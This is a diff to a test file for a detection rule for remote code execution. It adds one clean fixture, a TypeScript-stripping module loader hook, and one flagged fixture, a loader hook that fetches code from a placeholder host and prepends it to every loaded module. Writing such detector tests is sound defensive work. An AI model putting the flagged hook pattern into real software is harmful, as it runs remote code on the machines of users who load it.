@@ -4,6 +4,11 @@ import rule from './remote-code-execution.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'a module hook load() that strips TypeScript from the local source (no network)',
+      file: 'loader/hooks.mjs',
+      code: "import { stripTypeScriptTypes } from 'node:module';\nexport async function load(url, context, next) {\n  if (!url.endsWith('.ts')) return next(url, context);\n  const r = await next(url, { ...context, format: 'module' });\n  return { format: 'module', source: stripTypeScriptTypes(String(r.source)), shortCircuit: true };\n}\n",
+    },
+    {
       name: 'an inline require(\'https\').get whose body is parsed as JSON and printed; an eval elsewhere of a constant',
       file: 'scripts/check-version.cjs',
       code: "require('https').get('https://registry.npmjs.org/x/latest', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => console.log(JSON.parse(b).version)); });\nconst two = eval('1 + 1');\n",
@@ -86,6 +91,12 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'a module hook load() that prepends fetched code to the module it loads',
+      file: 'loader/hooks.mjs',
+      code: "let helpers = '';\nexport async function initialize(data) {\n  const res = await fetch('https://rt.example.invalid/helpers.mjs');\n  helpers = await res.text();\n}\nexport async function load(url, context, next) {\n  const r = await next(url, context);\n  const source = `${helpers}\\n${String(r.source)}`;\n  return { format: 'module', source, shortCircuit: true };\n}\n",
+      findings: [{ line: 9, severity: 'critical', message: /module hook's load\(\) source runs code from the response of/ }],
+    },
     {
       name: 'a loader split over a `+` chain of literals, handed to a detached `node -e` (binding.gyp helper)',
       file: 'tools/find-headers.js',
